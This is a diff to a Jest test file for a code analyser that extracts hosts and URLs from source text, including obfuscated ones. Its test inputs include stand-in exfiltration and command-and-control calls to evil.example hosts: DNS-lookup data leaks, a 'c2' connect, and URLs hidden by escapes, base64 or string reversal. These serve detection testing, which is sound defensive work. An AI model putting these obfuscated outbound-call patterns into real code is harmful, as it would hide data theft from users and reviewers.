@@ -1,5 +1,6 @@
 import { describe, expect, it } from '@jest/globals'
 import { maxFileLiterals } from '../../../../src/limits.js'
+import { fileAnalyser } from '../../../../src/package/code/analyse-file.js'
 import { readCode } from '../../../../src/package/code/read/read-code.js'
 import { type FoldedText, readTextFacts } from '../../../../src/package/code/text-facts.js'
 
@@ -59,6 +60,7 @@ describe('names in texts of code', () => {
       ['host *.evil.example', 'url https://*.evil.example/'],
     ],
     ['what is put before a host in DNS', 'lookup(data + ".evil.example")', ['host *.evil.example']],
+    ['what is put before a host in a template', `lookup(\`\${data}.a.evil.example\`)`, ['host *.a.evil.example']],
     ['a bare host', 'connect(443, "c2.evil.example")', ['host c2.evil.example']],
     ['a bare host with a port', 'connect("evil.com:443")', ['host evil.com']],
     ['a host of any ending where only a host can be', 'x({ hostname: "evil.link" })', ['host evil.link']],
@@ -96,7 +98,11 @@ describe('names in texts of code', () => {
       'get("https://exаmple.test/")',
       ['host xn--exmple-4nf.test', 'url https://xn--exmple-4nf.test/'],
     ],
-    ['escapes', 'get("https:\\x2f\\x2fevil.ex\\x61mple/")', ['host evil.example decoded', 'url https://evil.example/']],
+    [
+      'escapes',
+      'get("https:\\x2f\\x2fevil.ex\\x61mple/")',
+      ['host evil.example decoded', 'url https://evil.example/ decoded'],
+    ],
     [
       'base64',
       `get(atob("${base64('https://evil.example/a')}"))`,
@@ -288,8 +294,22 @@ describe('names in texts of code', () => {
 
     expect(named(code, 'a.js', folded)).toEqual([
       'host evil.example decoded',
-      'url https://evil.example/',
+      'url https://evil.example/ decoded',
       'host help.example message decoded',
+    ])
+  })
+
+  it('takes what an ability is used with, however it was put together', () => {
+    const text = (code: string) =>
+      fileAnalyser()(Buffer.from(code), 'a.js').literals.map(({ kind, value, decoded }) => ({ kind, value, decoded }))
+
+    expect(text("fetch('elpmaxe.live//:sptth'.split('').reverse().join(''))")).toEqual([
+      { kind: 'host', value: 'evil.example', decoded: true },
+      { kind: 'url', value: 'https://evil.example', decoded: true },
+    ])
+    expect(text("const a = 'https://plain.example/'; fetch(a)")).toEqual([
+      { kind: 'host', value: 'plain.example', decoded: false },
+      { kind: 'url', value: 'https://plain.example/', decoded: false },
     ])
   })
 
